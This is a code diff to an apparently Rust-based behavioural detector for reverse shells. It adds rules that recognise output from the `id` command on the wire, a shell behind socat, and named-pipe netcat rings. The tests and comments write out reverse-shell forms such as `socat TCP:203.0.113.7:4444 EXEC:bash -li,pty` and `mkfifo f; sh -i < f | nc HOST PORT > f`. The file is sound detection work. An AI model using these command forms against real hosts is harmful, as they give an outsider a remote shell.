@@ -55,7 +55,35 @@ fn judge(story: &Story<'_>) -> Vec<Match> {
         }
     }
     found.extend(turned_into_one(story));
+    found.extend(answered(story));
     found
+}
+
+/// Who is asked `id` by our end of an unknown conversation, and answers as a shell does.
+fn answered(story: &Story<'_>) -> Vec<Match> {
+    let mut told = Vec::new();
+    let mut found = Vec::new();
+    for (at, event) in story.events() {
+        let What::Message { flow, service, text } = &event.what else { continue };
+        if service != "shell" || told.contains(flow) || !answers_id(text) {
+            continue;
+        }
+        if let Some(flow_seen) = story.flow(*flow).filter(|flow| !flow.inbound) {
+            told.push(*flow);
+            let said =
+                format!("answers {} like a shell: {}", flow_seen.remote, model::text::shortened(text.trim(), 80));
+            found.push(Match::new(at, said).with([indicators::host(flow_seen)]).sure(Confidence::Certain));
+        }
+    }
+    found
+}
+
+/// What `id` prints.
+pub(super) fn answers_id(text: &str) -> bool {
+    text.match_indices("uid=").any(|(at, _)| {
+        let rest = text.get(at + 4..).unwrap_or("");
+        rest.starts_with(|digit: char| digit.is_ascii_digit()) && rest.get(..120).unwrap_or(rest).contains("gid=")
+    })
 }
 
 fn shown(program: &Program<'_>) -> String {
@@ -89,8 +117,16 @@ fn socket_stdio(story: &Story<'_>, life: usize, program: &Program<'_>) -> Option
     }
     // `pty.spawn` after `dup2`: the shell has a terminal, its parent the connection.
     let parent = of.parent.and_then(|parent| story.life(parent))?;
-    (shell && interactive && program.input == Some(Stream::Terminal) && redirected(parent))
-        .then_some("on a terminal of a process")
+    let terminal = matches!(program.input, Some(Stream::Terminal | Stream::File));
+    if shell && interactive && terminal && redirected(parent) {
+        return Some("on a terminal of a process");
+    }
+    // `socat TCP:… EXEC:sh` has a pair of sockets or a terminal in between.
+    let netcat = story.line_of(life).skip(1).take(2).any(|above| {
+        story.last_program(above).is_some_and(|program| program.is_netcat())
+            && story.life(above).is_some_and(|of| !of.connects.is_empty())
+    });
+    (netcat && program.is_bare_shell()).then_some("behind a program")
 }
 
 /// The last connection out that the life, or one above it, asked for before `at`.
@@ -107,17 +143,20 @@ fn called_out(story: &Story<'_>, life: usize, at: usize) -> Option<usize> {
 
 /// `mkfifo f; sh -i < f | nc HOST PORT > f`, or a program that feeds a shell through pipes while it holds a connection.
 fn between_pipes<'a>(story: &Story<'a>, life: usize, program: &Program<'a>) -> Option<(usize, &'static str)> {
-    let piped = program.is_shell()
-        && program.obeys_input()
-        && program.output == Some(Stream::Pipe)
-        && matches!(program.input, Some(Stream::Pipe | Stream::File | Stream::Terminal));
-    if !piped {
+    let piped = matches!(program.input, Some(Stream::Pipe | Stream::UnixSocket));
+    if !piped || !program.is_bare_shell() {
         return None;
     }
     let parent = story.life(life)?.parent?;
-    for sibling in &story.life(parent)?.children {
+    // Where the ring is closed: a pipe with a name. An interactive shell in a pipeline needs no more.
+    let closed = program.has(&["-i"])
+        || story
+            .events()
+            .take(program.at)
+            .any(|(_, event)| matches!(&event.what, What::Make { what, .. } if what == "pipe"));
+    for sibling in story.life(parent)?.children.iter().filter(|_| closed) {
         let netcat = story.own_programs(*sibling).any(|other| other.is_netcat() && other.input == Some(Stream::Pipe));
-        if netcat && *sibling != life {
+        if netcat && *sibling != life && story.overlap(*sibling, life) {
             let of = story.life(*sibling)?;
             if let Some(&at) = of.connects.iter().find(|at| matches!(story.what(**at), Some(What::Connect { .. }))) {
                 return Some((at, "in a ring of pipes with"));
@@ -125,7 +164,7 @@ fn between_pipes<'a>(story: &Story<'a>, life: usize, program: &Program<'a>) -> O
         }
     }
     // A program feeds it what comes in: no web, no TLS, and the other side spoke.
-    if program.input != Some(Stream::Pipe) || story.last_program(parent).is_some_and(|program| program.is_shell()) {
+    if story.last_program(parent).is_some_and(|program| program.is_shell()) {
         return None;
     }
     let of = story.life(parent)?;
@@ -253,6 +292,33 @@ mod tests {
         run.spawn_with(bash, "/usr/bin/id", &["id"], Stream::File, Stream::Socket);
         run.spawn_with(bash, "/usr/bin/uname", &["uname", "-a"], Stream::File, Stream::Socket);
         hit(&BEHAVIOUR, run, Weight::Proof, "answers 203.0.113.7:4444 with the output of id, uname");
+    }
+
+    #[test]
+    fn an_answer_to_id_on_the_wire_and_a_shell_behind_socat() {
+        let mut run = Run::of("/opt/agent", &["agent"]);
+        run.messages(
+            1,
+            "203.0.113.7:4444",
+            "shell",
+            &["/bin/sh: can't access tty", "uid=0(root) gid=0(root) groups=0(root)"],
+        );
+        hit(&BEHAVIOUR, run, Weight::Proof, "answers 203.0.113.7:4444 like a shell: uid=0(root)");
+        let mut run = Run::of("/usr/bin/socat", &["socat", "TCP:203.0.113.7:4444", "EXEC:bash -li,pty"]);
+        run.connect(1, "203.0.113.7:4444");
+        run.spawn_with(1, "/bin/bash", &["bash", "-li"], Stream::UnixSocket, Stream::UnixSocket);
+        hit(&BEHAVIOUR, run, Weight::Proof, "behind a program connected to");
+    }
+
+    #[test]
+    fn a_metric_sent_beside_a_shell_with_a_pipe_is_none() {
+        let mut run = Run::new();
+        let shell = run.spawn_with(1, "/bin/dash", &["sh"], Stream::Pipe, Stream::Pipe);
+        let netcat = run.spawn_with(1, "/bin/nc.openbsd", &["nc", "-w1", "statsd", "8125"], Stream::Pipe, Stream::Pipe);
+        run.flow(netcat, "198.51.100.4:8125", Some("statsd.example"), "sink", b"deploy:1|c");
+        run.exit(shell);
+        run.messages(1, "198.51.100.5:7000", "shell", &["HELLO 1", "ERR unknown command"]);
+        miss(&BEHAVIOUR, run);
     }
 
     #[test]
